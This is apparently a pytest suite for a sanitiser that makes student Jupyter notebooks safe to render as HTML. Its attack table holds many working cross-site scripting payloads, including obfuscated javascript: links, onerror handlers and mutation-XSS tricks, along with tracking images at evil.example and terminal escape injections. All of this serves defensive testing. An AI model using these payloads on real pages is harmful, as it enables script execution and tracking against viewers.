"""Whatever a student writes or prints, the pages made of the graded notebook stay harmless."""

import base64
import json
import re
import shutil
import subprocess
import time
from collections import Counter
from copy import deepcopy
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from IPython.display import Audio
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import InvalidNotebook
from nbformat.notebooknode import from_dict
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_raw_cell,
)

from examiner import harmless
from examiner.harmless import CUT, MakeHarmless, plain

TEMPLATES = ["classic", "lab"]
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256))).decode() + "\n"
# Run by an attack that works: it leaves its number on the page.
ACT = "document.documentElement.setAttribute('harmed'+{0},1)"
BOLD, LINE_END = "\x1b[1m", "\x1b[0m"


def shown(data, metadata=None, **more):
    output = {"output_type": "display_data", "data": data, "metadata": metadata or {}, **more}
    return from_dict({**new_code_cell("show()"), "outputs": [output]})


def html(text):
    return shown({"text/html": text, "text/plain": "<object>"})


def counted(count):
    output = {"output_type": "execute_result", "data": {"text/plain": "1"}, "metadata": {}}
    cell = {**new_code_cell("1"), "execution_count": count}
    return from_dict({**cell, "outputs": [{**output, "execution_count": count}]})


def text(source, **attachments):
    bundles = {name.replace("_", "."): bundle for name, bundle in attachments.items()}
    return new_markdown_cell(source, **({"attachments": bundles} if bundles else {}))


def encoded(markup):
    return base64.b64encode(markup.encode()).decode()


# JS stands for what an attack runs. The last rows swallow what follows them on a page.
ATTACKS = {
    "html script": html("<script>JS</script>"),
    "html script, upper case": html("<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>JS</sCrIpT>"),
    "html image error": html('<img src=x onerror="JS">'),
    "html image error, slashes": html('<img/src="x"/onerror=JS>'),
    "html svg": html('<svg onload="JS"><script>JS</script></svg>'),
    "html body": html('<body onload="JS">'),
    "html frame": html('<iframe srcdoc="<script>parent.JS</script>"></iframe>'),
    "html frame of a script": html('<iframe src="javascript:parent.JS"></iframe>'),
    "html link": html('<a href="javascript:JS">x</a>'),
    "html link, entity": html('<a href="java&#115;cript:JS">x</a>'),
    "html link, tab": html('<a href="  java\tscript&colon;JS">x</a>'),
    "html link, control": html('<a href="\x01javascript:JS">x</a>'),
    "html link, vbscript": html('<a href="vbscript:msgbox(1)">x</a>'),
    "html link, page as data": html('<a href="data:text/html,<script>JS</script>">x</a>'),
    "html object": html('<object data="data:text/html,<script>JS</script>"></object>'),
    "html embed": html('<embed src="data:text/html,<script>JS</script>">'),
    "html form": html('<form action="//evil.example"><button formaction="javascript:JS">x</form>'),
    "html refresh": html('<meta http-equiv="refresh" content="99;url=javascript:JS">'),
    "html sheet": html('<link rel="stylesheet" href="//evil.example/x.css">'),
    "html base": html('<base href="//evil.example/">'),
    "html style": html("<style>body {display: none}</style>"),
    "html cover": html('<div style="position: fixed; background: url(//evil.example/x)">x</div>'),
    "html details": html('<details open ontoggle="JS">x</details>'),
    "html focus": html('<input autofocus onfocus="JS">'),
    "html animation": html(
        "<style>@keyframes a{}</style><b style='animation:a' onanimationstart=JS>"
    ),
    "html math": html("<math><mtext><table><mglyph><style><img src=x onerror=JS></style></table>"),
    "html title": html('<svg></p><style><g title="</style><img src=x onerror=JS>">'),
    "html noscript": html('<noscript><p title="</noscript><img src=x onerror=JS>">'),
    "html template": html('<template><script>JS</script></template><img src=x onerror="JS">'),
    "html sound": html('<audio src=x onerror="JS"></audio><video><source onerror="JS"></video>'),
    "html svg picture": html(f'<img src="data:image/svg+xml;base64,{encoded("<svg/>")}">'),
    "html distant picture": html('<img src="http://evil.example/spy.png">'),
    "html formula": html(r"<p>$\href{javascript:JS}{x}$</p>"),
    "html formula, entity": html("<p>$&#92;h&#114;ef{javascript:JS}{x}$</p>"),
    "html isolated": shown(
        {"text/html": "<script>parent.JS</script>"}, {"text/html": {"isolated": 1}}
    ),
    "svg": shown({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>'}),
    "javascript": shown({"application/javascript": "JS"}),
    "mermaid": shown({"text/vnd.mermaid": "<script>JS</script>"}),
    "latex": shown({"text/latex": r"$\href{javascript:JS}{x}$"}),
    "png width": shown({"image/png": PNG}, {"image/png": {"width": "1 onload=JS onerror=JS"}}),
    "png alt": shown({"image/png": PNG}, {"image/png": {"alt": '" onload="JS'}}),
    "png elsewhere": shown({"image/png": PNG}, {"filenames": {"image/png": "javascript:JS"}}),
    "jpeg height": shown({"image/jpeg": PNG}, {"image/jpeg": {"height": "1 onerror=JS"}}),
    "output markdown": shown({"text/markdown": "# x\n\n<script>JS</script>"}),
    "output markdown link": shown({"text/markdown": "[x](javascript:JS)"}),
    "output markdown attachment": shown({"text/markdown": "![x](attachment:a.png)"}),
    "count": counted("<script>JS</script>"),
    "text script": text("Hello <script>JS</script>"),
    "text image error": text('*x* <img src=x onerror="JS">'),
    "text handler": text('<b onmouseover="JS">x</b>'),
    "text link": text("[x](javascript:JS)"),
    "text link, entity": text("[x](java&#115;cript:JS)"),
    "text link, upper case": text('[x](JaVaScRiPt:JS "title")'),
    "text link, data": text("[x](data:text/html;base64,PHNjcmlwdD4=)"),
    "text link, prefix that goes": text("[x](files/javascript:JS)"),
    "text autolink": text("<javascript:JS>"),
    "text reference": text("[x][r]\n\n[r]: javascript:JS"),
    "text reference, entity": text("[r]\n\n[r]: <java&#x73;cript:JS>"),
    "text picture of a script": text("![x](javascript:JS)"),
    "text picture link": text("[![x](a.png)](javascript:JS)"),
    "text distant picture": text("![x](http://evil.example/spy.png)"),
    "text picture that logs out": text("![x](/logout)"),
    "text mermaid": text("```mermaid\n</pre><script>JS</script>\n```"),
    "text heading": text('# x <img src=x onerror="JS">'),
    "text table": text('|a|\n|-|\n|<img src=x onerror="JS">|'),
    "text list": text('- a\n  > <img src=x\n  > onerror="JS">'),
    "text after code": text('`a` <img src=x onerror="JS"> `b`'),
    "text between escapes": text('\\`<img src=x onerror="JS">\\`'),
    "text between dollars": text(
        '\\$<img src=x onerror="JS">\\$ and \\\\$ <script>JS</script> \\\\$'
    ),
    "text svg": text('<svg><animate onbegin="JS" attributeName=x dur=1s></svg>'),
    "text frame": text('<iframe src="javascript:parent.JS"></iframe>'),
    "text details": text('<details open ontoggle="JS">\n\n**x**\n\n</details>'),
    "text formula": text(r"$\href{javascript:JS}{x}$"),
    "text formula, block": text("$$\n\\class{x}{\\style{position:fixed}{y}}\n$$"),
    "text formula, new command": text(r"$\def\x#1{#1} \newcommand{\frac}[2]{#1} \require{html}$"),
    "text formula, escaped": text(r"\$\\href{javascript:JS}{x}\$"),
    "text svg attachment": text(
        "![x](attachment:a.svg)", a_svg={"image/svg+xml": encoded("<svg/>")}
    ),
    "text page attachment": text(
        "![x](attachment:a)", a={"text/html": encoded("<script>JS</script>")}
    ),
    "text no attachment": text("![x](attachment:a.png)"),
    "text end of page": text("</div></div></div></body></html><script>JS</script>"),
    "raw": new_raw_cell('<img src=x onerror="JS"><script>JS</script>'),
    "raw, as html": new_raw_cell("<iframe></iframe>", metadata={"raw_mimetype": "text/html"}),
    "text comment": text('<!-- --!><img src=x onerror="JS"> -->'),
    "text style": text("<style>body {display: none}</style>"),
    "html unclosed": html('<img src=x onerror="JS" x="'),
    "html textarea": html('</textarea><img src=x onerror="JS"><textarea>'),
    "html comment": html('<!--><img src=x onerror="JS">'),
    "text unclosed": text("<img src=x onerror=JS //"),
    "text plain to the end": text("<xmp><p title='</xmp><img src=x onerror=JS>'><plaintext>"),
}
# The stock exporter makes no page of these, so a whole class would get no feedback.
STOPPERS = {"count", "output markdown attachment", "text no attachment"}
# The parsers of stock nbconvert, or of this test, already make nothing of these.
TAME = {"png alt", "raw", "raw, as html", "text comment", "html unclosed", "text unclosed"}

HONEST = {
    "headings": "# Results\n\n## Levels and `dB`\n\nTwo *words* and **three** ~~four~~.",
    "formulas": "$a<b$, $x_i \\in \\{1, 2\\}$ and\n\n$$\\frac{1}{2} < \\sum_{i<j} a_i$$",
    "environment": "\\begin{align}\na &= b \\\\\nc &< d\n\\end{align}",
    "smaller": "If a < b then x<y, a <- b, and 3>2 & more. \\\\(a<b\\\\)",
    "code spans": "Use `<script>` or ``x = `<b>` `` and `\\href{a}{b}`.",
    "fences": "```python\nx = '<script>' if a < b else $c$\n```\n\n```\n<iframe>\n```",
    "indented": "Code:\n\n    <b> indented",
    "html fence": "```html\n<a href='javascript:x'>\n```",
    "table": "| a | b |\n|:--|--:|\n| 1 | `<b>` |\n| $x$ | *y* |",
    "links": "[a](https://a.example/c?d=1&e=2 'T \"q\"') <https://b.example> https://c.example/d_(e)",
    "reference": "[a][r] and [r]\n\n[r]: https://a.example/b",
    "near links": "[a](#results) [b](ex1.ipynb) [c](mailto:a@b.example)",
    "lists": "- a\n  1. b\n\n     c\n- d\n\n4. e\n5. f\n\n- [ ] g\n- [x] h",
    "quote": "> a\n>\n> b\n\n---\n\nterm\n: what it is",
    "plain tags": "x<sub>1</sub>, 10<sup>3</sup>, a<br>b <b>c</b> <i>d</i>",
    "hint": "<details><summary>Hint 1</summary>\n\nUse `np`:\n\n- a\n\n</details>",
    "entities": "a &lt;b&gt; &copy; &nbsp; &amp;amp;",
    "unicode": "Grüße, 声音, \U0001f600, ½ „x“",
    "data picture": f"![p](data:image/png;base64,{PNG.strip()})",
    "file picture": "![p](figure.png 'T')",
    "nothing": "",
}


class Seen(HTMLParser):
    """Counts what can act on a page."""

    ELEMENTS = """script iframe frame object embed applet form button textarea select svg math link
    base style meta template video noscript xmp plaintext"""
    ACTING = re.compile(r"(javascript|vbscript|data:(?!image/(png|jpeg|gif);|audio/))")

    def __init__(self, page):
        super().__init__()
        self.found, self.words, self.inside = Counter(), [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in self.ELEMENTS.split() or (
            tag == "input" and dict(attrs).get("type") != "checkbox"
        ):
            self.found[tag] += 1
        if tag in ("pre", "code", "script", "style"):
            self.inside.append(tag)
        for name, value in attrs:
            self.found[self.act_of(tag, name, value or "")] += 1

    def act_of(self, tag, name, value):
        bare = re.sub(r"[\0-\x20]", "", value).lower()
        if name.startswith("on") or name in ("srcdoc", "formaction", "ping", "autofocus"):
            return name
        is_address = name not in ("id", "alt", "title") and self.ACTING.match(bare)
        if is_address or (tag == "img" and name == "src" and re.match(r"http|/", bare)):
            return f"{name}={bare[:30]}"
        if name == "style" and re.search(r"url|position|animation", bare):
            return f"{name}={bare}"
        return "mermaid" if name == "class" and "mermaid" in value.split() else None

    def handle_endtag(self, tag):
        if self.inside and self.inside[-1] == tag:
            self.inside.pop()

    def handle_data(self, data):
        command = re.search(r"\\(href|class|style|def|newcommand|require)\b", data)
        if command and not self.inside:
            self.found[command[0]] += 1


@pytest.fixture(scope="module")
def exporters():
    return {name: HTMLExporter(template_name=name) for name in TEMPLATES}


@pytest.fixture(scope="module")
def harms(exporters):
    """Says what can act on the page of a notebook, beyond what is on that of a plain one."""
    plain_notebook = new_notebook(cells=[text("x"), shown({"text/plain": "x"})])
    usual = {name: Seen(page_of(exporters[name], plain_notebook)).found for name in TEMPLATES}

    def harms(notebook, template):
        found = Seen(page_of(exporters[template], notebook)).found - usual[template]
        return {what for what in found if what is not None}

    return harms


def unchecked(cells):
    return from_dict({**new_notebook(), "cells": deepcopy(list(cells))})


def page_of(exporter, notebook):
    return exporter.from_notebook_node(notebook)[0]


def cleaned(*cells, **traits):
    return MakeHarmless(**traits).preprocess(unchecked(cells), {})[0]


def armed(cell, number=0):
    script = ACT.format(number)
    return from_dict(json.loads(json.dumps(cell).replace("JS", script)))


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("name", ATTACKS)
def test_no_attack_reaches_a_page(name, template, harms):
    notebook = cleaned(armed(ATTACKS[name]))
    assert harms(notebook, template) == set()
    nbformat.validate(notebook)
    assert cleaned(*notebook.cells).cells == notebook.cells


@pytest.mark.parametrize("name", sorted(set(ATTACKS) - TAME))
def test_each_attack_reaches_a_page_of_stock_nbconvert(name, harms):
    notebook = unchecked([armed(ATTACKS[name])])
    if name in STOPPERS:
        with pytest.raises((InvalidNotebook, nbformat.ValidationError)):
            harms(notebook, "classic")
    else:
        assert any(harms(notebook, template) for template in TEMPLATES)


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium")
@pytest.mark.parametrize("template", TEMPLATES)
def test_nothing_runs_in_a_browser(template, exporters, tmp_path):
    cells = {name: armed(cell, number) for number, (name, cell) in enumerate(ATTACKS.items())}
    stock = [cell for name, cell in cells.items() if name not in STOPPERS]
    harmed = harmed_in_browser(page_of(exporters[template], unchecked(stock)), tmp_path)
    assert len(harmed) > 35
    page = page_of(exporters[template], cleaned(*cells.values()))
    assert harmed_in_browser(page, tmp_path) == set()


def harmed_in_browser(page, folder):
    """The numbers of the attacks that ran, after every link that runs something was followed."""
    links = "for (const a of document.links) if (/javascript/.test(a.protocol)) a.click()"
    path = folder / "page.html"
    path.write_text(page.replace("</body>", f"<script>{links}</script></body>"), encoding="utf-8")
    options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder}/profile"]
    options += ["--host-resolver-rules=MAP * ~NOTFOUND", "--virtual-time-budget=2000", "--dump-dom"]
    command = [CHROMIUM, *options, path.as_uri()]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    assert "show" in done.stdout
    return set(re.findall(r"harmed\d+", done.stdout.split("<head", 1)[0]))


def test_widgets_leave_neither_views_nor_state(harms):
    view, state = ("application/vnd.jupyter.widget-" + kind for kind in ("view+json", "state+json"))
    notebook = unchecked([shown({view: {"model_id": "1"}, "text/plain": "Slider()"})])
    notebook.metadata.widgets = {state: {"state": {"1": {"model_module": "evil"}}}}
    assert "script" in harms(notebook, "lab")
    cleaned_notebook, _ = MakeHarmless().preprocess(deepcopy(notebook), {})
    assert cleaned_notebook.metadata == {}
    assert list(cleaned_notebook.cells[0].outputs[0].data) == ["text/plain"]
    assert harms(cleaned_notebook, "lab") == set()


@pytest.mark.parametrize(
    "data", ['x" onerror="alert(1)', "<svg/>", "data:,x", "", None, 7, [PNG, 7]]
)
def test_only_base64_is_a_picture(data):
    assert list(cleaned(shown({"image/png": data})).cells[0].outputs[0].data) == ["text/plain"]
    attachments = {"a.png": {"image/png": data}}
    cell = from_dict({**text("![x](attachment:a.png)"), "attachments": attachments})
    assert "attachments" not in cleaned(cell).cells[0]


def test_a_heading_cannot_take_the_place_of_an_element_of_the_page(exporters):
    graded = text("# mine", x_png={"image/png": PNG})
    graded.metadata.nbgrader = {"grade_id": "question", "locked": False, "solution": True}
    takers = ["# question", "## question-comment\n\n$x$", "statusmessage\n===", "# *notebook*"]
    output = shown({"text/markdown": "# question"})
    page = page_of(exporters["classic"], cleaned(graded, *map(text, takers), output))
    ids = {tag["id"] for tag in BeautifulSoup(page, "html.parser").find_all(id=True)}
    assert "mine" in ids
    assert {"question", "question-comment", "statusmessage"}.isdisjoint(ids)


def test_locked_sources_stay_and_their_outputs_are_cleaned(harms):
    for cell in (text("<script>1</script>"), html("<script>1</script>")):
        cell.metadata = {"nbgrader": {"locked": True, "grade_id": "a"}, "tags": ["x"]}
        (after,) = cleaned(cell).cells
        assert (after.source, after.metadata) == (cell.source, cell.metadata)
        assert "script" not in str(after.get("outputs"))


def test_code_of_students_stays_as_written():
    source = "def f(x):\n\treturn '<script>' if x < 1 else \"\\x1b[0m\"  # é"
    assert cleaned(new_code_cell(source)).cells[0].source == source
    assert cleaned(new_code_cell("a = 1\u202e # \ud800")).cells[0].source == "a = 1 # "


@pytest.mark.parametrize("name", HONEST)
def test_honest_texts_stay_and_look_as_before(name, exporters):
    before = text(HONEST[name], p_png={"image/png": PNG})
    (after,) = cleaned(before, text("# notebook"), text("[a](javascript:b)")).cells[:1]
    assert after.source == before.source
    assert after.attachments == before.attachments
    for exporter in exporters.values():
        page, was = (page_of(exporter, unchecked([cell])) for cell in (after, before))
        assert page == was


def test_the_texts_of_the_course_stay():
    cells = [
        cell
        for path in sorted((Path(__file__).parent.parent / "source").rglob("*.ipynb"))
        for cell in nbformat.read(path, as_version=4).cells
        if cell.cell_type == "markdown"
    ]
    assert len(cells) > 30
    unlocked = [from_dict({**cell, "metadata": {}}) for cell in cells]
    assert [cell.source for cell in cleaned(*unlocked).cells] == [cell.source for cell in cells]


def test_pasted_pictures_are_shown(exporters):
    cell = text("*x* ![a](attachment:p.png) <b onclick=1>", p_png={"image/png": PNG.strip()})
    page = page_of(exporters["lab"], cleaned(cell))
    assert f'src="data:image/png;base64,{PNG.strip()}"' in page
    assert "<em>x</em>" in page


def test_mended_texts_can_still_be_read(exporters):
    written = "**x** `<i>` $a<b$ <center>c</center> [d](javascript:e) ![f](https://g.example/h.png)"
    written += " ![i](attachment:lost.png) j<sub>1</sub>"
    page = page_of(exporters["lab"], cleaned(text(written)))
    body = BeautifulSoup(page, "html.parser").find(class_="jp-MarkdownOutput")
    assert (
        body.get_text().strip()
        == "x <i> $a<b$ <center>c</center> [d](javascript:e) f ![i](attachment:lost.png) j1"
    )
    assert (body.strong.text, body.code.text) == ("x", "<i>")
    assert body.a["href"] == "https://g.example/h.png"


def test_raw_cells_are_shown_as_code(exporters):
    page = page_of(exporters["lab"], cleaned(new_raw_cell("a ```` *b*\n<c>")))
    assert "a ```` *b*\n&lt;c&gt;" in page


@pytest.mark.parametrize("styled", [False, True])
def test_tables_of_pandas_stay_tables(styled):
    frame = pd.DataFrame({"a<b": [1.5, 2.5], "c": ["<script>x</script>", "d & e"]})
    table = frame.style.format(precision=1).to_html() if styled else frame._repr_html_()
    data = cleaned(html(table)).cells[0].outputs[0].data["text/html"]
    cells = [cell.text for cell in BeautifulSoup(data, "html.parser").select("table td")]
    assert "1.5" in cells and "d & e" in cells
    assert "{" not in data
    assert styled or 'style="text-align: right;"' in data


def test_sound_keeps_its_source():
    given = Audio(np.sin(np.arange(800)), rate=8000)._repr_html_()
    source = re.search(r'src="([^"]+)"', given)[1]
    made = cleaned(html(given)).cells[0].outputs[0].data["text/html"]
    audio = BeautifulSoup(made, "html.parser").audio
    assert source.startswith("data:audio/wav;base64,UklGR")
    assert audio.source["src"] == source
    assert "controls" in audio.attrs


def test_plots_stay_byte_for_byte():
    size = {"width": 640, "height": 480, "alt": "The file's waveform, loud & clear"}
    given = shown({"image/png": PNG, "text/plain": "<Figure>"}, {"image/png": {**size, "x": "y"}})
    output = cleaned(given).cells[0].outputs[0]
    assert output.data == given.outputs[0].data
    assert output.metadata == {"image/png": size}


def test_html_of_harmless_kinds_stays():
    given = (
        '<h3>A</h3>\n<p>b <b>c</b> <a href="https://d.example/e?f=1">g</a></p><ul><li>h</li></ul>'
    )
    assert cleaned(html(given)).cells[0].outputs[0].data["text/html"] == given


@pytest.mark.parametrize(
    "printed, seen",
    [
        ("a < b & <b>c</b>\n\n  d\t\n", "a < b & <b>c</b>\n\n  d\t\n"),
        (f"{BOLD}a{LINE_END} \x1b[38;5;12mb \x1b[1;31mc\x1b[m", None),
        ("a\x1b[2J\x1b[1;1Hb\x1b[?25lc\x1b[3Ad", "abcd"),
        ("\x1b]8;;https://evil.example\x1b\\a\x1b]8;;\x1b\\", "a"),
        ("\x1b]0;title\x07a\x1bP1$q\x1b\\b\x9b31mc\x9d0;x\x9cd", "abcd"),
        ("\x1b[38ma\x1b[38;5mb\x1b[48;2;1mc\x1b[<script>md", "abccript>md"),
        ("a\x1b\x1b[31m[31mb\x1b[3", "a\x1b[31m[31mb"),
        ("pass\x08\x08\x08\x08fail\x00\x7f\x85", "passfail"),
        ("a\r\nb\r\n", "a\nb\n"),
        ("  0%|   | 0/2\r 50%|=  | 1/2\r100%|== | 2/2\nend", "100%|== | 2/2\nend"),
        ("wait\r", "wait"),
        ("\u202eevil\u2066\u2069 \ud800é", "evil é"),
        ("\x1b[31m" * 6000 + "a", "a"),
    ],
)
def test_printed_text_reads_as_on_a_terminal(printed, seen, exporters):
    seen = printed if seen is None else seen
    assert plain(printed) == seen == plain(seen)
    stream = {"output_type": "stream", "name": "stdout", "text": printed}
    error = {"output_type": "error", "ename": printed, "evalue": "", "traceback": [printed]}
    cell = from_dict({**new_code_cell("1"), "outputs": [stream, error]})
    notebook = cleaned(cell)
    assert [notebook.cells[0].outputs[0].text, notebook.cells[0].outputs[1].ename] == [seen] * 2
    assert "\x1b" not in page_of(exporters["classic"], notebook)


def test_errors_stay_errors():
    error = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": None}
    (output,) = cleaned(from_dict({**new_code_cell("1"), "outputs": [error]})).cells[0].outputs
    assert output == {**error, "traceback": ["E: v"]}


DEEP = []
for _ in range(400):
    DEEP = [DEEP]

MALFORMED = [
    None,
    7,
    "text",
    DEEP,
    {},
    {"output_type": ["stream"]},
    {"output_type": "stream"},
    {"output_type": "stream", "name": {}, "text": 7},
    {"output_type": "stream", "name": "stdin", "text": ["a", "b"]},
    {"output_type": "error"},
    {"output_type": "error", "ename": 7, "evalue": DEEP, "traceback": [7, None, ["a"], "b"]},
    {"output_type": "pyout", "text": "a"},
    {"output_type": "display_data"},
    {"output_type": "display_data", "data": "x", "metadata": 7},
    {"output_type": "execute_result", "data": None, "execution_count": True},
    *[
        {"output_type": "display_data", "data": {kind: value}, "metadata": {kind: value}}
        for kind in [*harmless.SHOW, "image/svg+xml", "<script>", "x" * 500]
        for value in [None, 7, DEEP, {"a": 1}, ["a", 7], ["<b>", "x</b>"], "\ud800\0", ""]
    ],
]


def test_malformed_outputs_stop_nothing(exporters):
    cell = {**new_code_cell("1"), "source": ["a", "b"], "outputs": MALFORMED, "metadata": 7}
    odd = [{**text("x"), "source": source, "attachments": 7} for source in (None, 7, ["a"], DEEP)]
    odd += [{**new_code_cell("1"), "outputs": outputs} for outputs in (None, 7, {"a": 1})]
    odd += [
        {**text("x"), "cell_type": "sql"},
        {**text("x"), "attachments": {"a": 7, "b": {"c": 7}}},
    ]
    notebook = cleaned(cell, *odd)
    nbformat.validate(notebook)
    nbformat.writes(notebook).encode()
    assert len(notebook.cells[0].outputs) > 40
    for exporter in exporters.values():
        assert "<script> onerror" not in page_of(exporter, notebook)


def test_what_is_too_large_is_cut_and_says_so():
    stream = {"output_type": "stream", "name": "stdout", "text": "a" * 700}
    error = {"output_type": "error", "ename": "E" * 50, "evalue": "v", "traceback": ["t"]}
    table = shown({"text/html": "<p>" + "b" * 700, "text/plain": "c"}).outputs[0]
    cell = from_dict({**new_code_cell("1"), "outputs": [stream, table, stream, stream, error]})
    outputs = cleaned(cell, largest=1000).cells[0].outputs
    assert outputs[0].text == "a" * 700
    assert outputs[1].data == {"text/plain": "c\n[removed: text/html]"}
    assert CUT in outputs[2].text
    assert [output.output_type for output in outputs[3:]] == ["error", "stream"]
    assert len(str(outputs)) < 2000
    assert CUT in cleaned(text("d" * 2000), largest=1000).cells[0].source


def test_pictures_and_sound_have_a_room_of_their_own():
    sound = f'<audio controls src="data:audio/wav;base64,{"A" * 4000}"></audio>'
    cells = [shown({"image/png": "A" * 4000}), html(sound)]
    fitting = cleaned(*cells, largest=1000, largest_media=4100).cells
    assert [set(cell.outputs[0].data) - {"text/plain"} for cell in fitting] == [
        {"image/png"},
        {"text/html"},
    ]
    for cell in cleaned(*cells, largest=1000, largest_media=3900).cells:
        assert "removed" in cell.outputs[0].data["text/plain"]


def test_a_flood_of_empty_outputs_is_cut():
    empty = {"output_type": "stream", "name": "stdout", "text": ""}
    cell = from_dict({**new_code_cell("1"), "outputs": [empty] * 5000})
    assert len(cleaned(cell, largest=10_000).cells[0].outputs) < 200


@pytest.mark.parametrize(
    "cell",
    [
        text("\\\\[" * 40_000),
        html("".join(f"<b a={number}><p>" for number in range(20_000))),
        html("<div>" * 100_000),
        shown({"image/png": " " * 100_000 + "!"}),
        text("# " + " " * 50_000 + "\\" * 50_000 + "<b>" + "`" * 50_000),
        shown({"text/plain": "\x1b[" * 100_000 + "\x1b]" * 100_000 + "\r" * 100_000}),
    ],
)
def test_markup_that_would_take_hours_is_given_up(cell, monkeypatch):
    monkeypatch.setattr(harmless, "PATIENCE", 0.5)
    start = time.monotonic()
    cleaned(cell)
    assert time.monotonic() - start < 5
